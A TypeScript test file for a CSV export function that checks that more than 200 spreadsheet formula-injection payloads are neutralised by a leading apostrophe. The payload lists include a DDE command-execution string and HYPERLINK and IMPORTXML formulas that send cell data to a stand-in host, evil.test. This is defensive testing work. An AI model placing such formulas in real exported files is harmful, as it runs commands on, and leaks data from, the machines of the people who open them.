import { readCsv } from '../../../test/builders/read-csv.js';
import { csvLine } from './csv-line.js';

const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\uff1d',
  '\uff0b',
  '\uff0d',
  '\uff20',
  ' =',
  '"=',
  "'=",
  '\u00a0=',
];
const BODIES = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.test?x="&A1,"Click")',
  'SUM(A1:A9)*cmd|x',
  'IMPORTXML("http://evil.test","//a")',
  'a,b',
  'a"b',
  '"quoted"',
  'line\r\nbreak',
  'line\nbreak',
  '@SUM(1)',
  '',
  '2+5+cmd',
  'Zoë',
];
/** Fifteen beginnings times fourteen bodies. */
const PAYLOADS = STARTS.flatMap((start) => BODIES.map((body) => start + body));
/** What spreadsheets take for the beginning of a formula. */
const isLive = (cell: string): boolean =>
  /^[\s"\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell) || /^[\t\r\n]/.test(cell);

describe('csvLine', () => {
  // A-101
  it('leaves none of 200 formulas alive, and loses nothing of them (S15)', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(200);
    const lines = readCsv(PAYLOADS.map((payload) => csvLine(['before', payload, 'after'])).join(''));
    for (const [index, [before, cell, after]] of lines.entries()) {
      expect([before, after]).toEqual(['before', 'after']);
      expect(isLive(cell!)).toBe(false);
      // Behind the tab of `\t@SUM(1)` stands one more apostrophe.
      expect(cell!.replace("\t'@", '\t@')).toBe(`'${PAYLOADS[index]}`);
    }
    expect(lines).toHaveLength(PAYLOADS.length);
  });

  it('quotes every text and no number', () => {
    expect(csvLine(['plain', 'a,b', 'say "hi"', null, -12.5, 0])).toBe('"plain","a,b","say ""hi""",,-12.5,0\r\n');
  });

  it.each([
    [`x;=cmd|' /C calc'!A0;y`, `x;'=cmd|' /C calc'!A0;y`],
    ['x\t@SUM(1)', `x\t'@SUM(1)`],
    ['x; "+1', `x; "'+1`],
    ['a;;-1;b', `a;;'-1;b`],
    ['x;\uff1d1', `x;'\uff1d1`],
  ])('leaves no formula alive behind a semicolon or a tab: %j', (text, safe) => {
    expect(readCsv(csvLine([text]))).toEqual([[safe]]);
  });

  it('lets names and addresses be what they are', () => {
    const harmless = ["O'Neill", 'mara+summit@example.com', 'Zoë de la Cruz', '1-800', 'a=b'];
    expect(readCsv(csvLine(harmless))).toEqual([harmless]);
  });
});
